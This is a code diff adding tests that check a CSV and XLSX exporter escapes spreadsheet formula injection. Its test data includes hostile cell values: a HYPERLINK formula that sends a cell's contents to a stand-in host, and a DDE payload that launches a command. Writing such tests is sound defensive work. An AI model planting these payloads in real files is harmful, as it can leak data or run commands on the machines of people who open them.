@@ -36,6 +36,53 @@ describe("csv", () => {
   });
 });
 
+const HOSTILE_NAMES = ['=HYPERLINK("http://x.example/?"&A1,"Bấm vào")', "+84 912", "-2+3", "@SUM(A1:A9)", "\tTab", "\rCR", "=cmd|' /C calc'!A0"];
+
+describe("formula injection (CSV, XLSX)", () => {
+  const hostile: ExportFile = {
+    units: HOSTILE_NAMES.map((name, i) => ({code: `HU-X${i}`, name, level: "tren_co_so", parent: "TQ"})),
+    periods: ["2022"],
+    types: ["year"],
+    n: {rate: Object.fromEntries(HOSTILE_NAMES.map((_, i) => [`HU-X${i}`, [-1]]))},
+    d: {rate: Object.fromEntries(HOSTILE_NAMES.map((_, i) => [`HU-X${i}`, [2]]))},
+    v: {rate: Object.fromEntries(HOSTILE_NAMES.map((_, i) => [`HU-X${i}`, [-0.5]]))}
+  };
+  const rows = exportRows([hostile], [share], {indicators: ["rate"], periodTypes: ["year"]});
+
+  it("a CSV cell that a spreadsheet would read as a formula starts with an apostrophe; numbers stay numbers", () => {
+    expect(rows).toHaveLength(HOSTILE_NAMES.length);
+    const csv = exportCsv(rows, labels);
+    // parse back: every name cell is the name behind an apostrophe, and the negative numbers are bare
+    const lines = csv.trimEnd().split(/\r\n(?=HU-X)/).slice(1);
+    lines.forEach((line, i) => {
+      const name = HOSTILE_NAMES[i];
+      const field = csvField(name);
+      expect(field.replace(/^"/, "")[0], `field of ${JSON.stringify(name)}`).toBe("'");
+      expect(line).toContain(field);
+      expect(line.endsWith(",-1,2,-0.5")).toBe(true);
+    });
+    expect(csvField("Huyện ủy Lâm Bình")).toBe("Huyện ủy Lâm Bình");
+    expect(csvField(-3)).toBe("-3");
+  });
+
+  it("an XLSX holds every text as an inline string with the same apostrophe, and no formula at all", async () => {
+    const bytes = exportXlsx(rows, labels, {definitions: [{indicator: share, formula: "=1+1"}], filters: ["-"]});
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(Buffer.from(bytes) as unknown as ExcelJS.Buffer);
+    const data = wb.getWorksheet("Số liệu")!;
+    HOSTILE_NAMES.forEach((name, i) => expect(data.getCell(`B${i + 2}`).value).toBe(`'${name}`));
+    expect(data.getCell("L2").value).toBe(-0.5);
+    expect(wb.getWorksheet("Định nghĩa")!.getCell("H2").value).toBe("'=1+1");
+    for (const ws of wb.worksheets)
+      ws.eachRow((row) =>
+        row.eachCell((cell) => {
+          expect(cell.type, `${ws.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
+          if (typeof cell.value === "string") expect(cell.value, `${ws.name}!${cell.address}`).not.toMatch(/^[=+\-@\t\r]/);
+        })
+      );
+  });
+});
+
 describe("export table", () => {
   it("filters by indicator, period type, periods, units and committee; a missing value is no row", () => {
     const all = exportRows([exportFile], [share, score], {indicators: ["rate", "index"], periodTypes: ["year", "term"]});
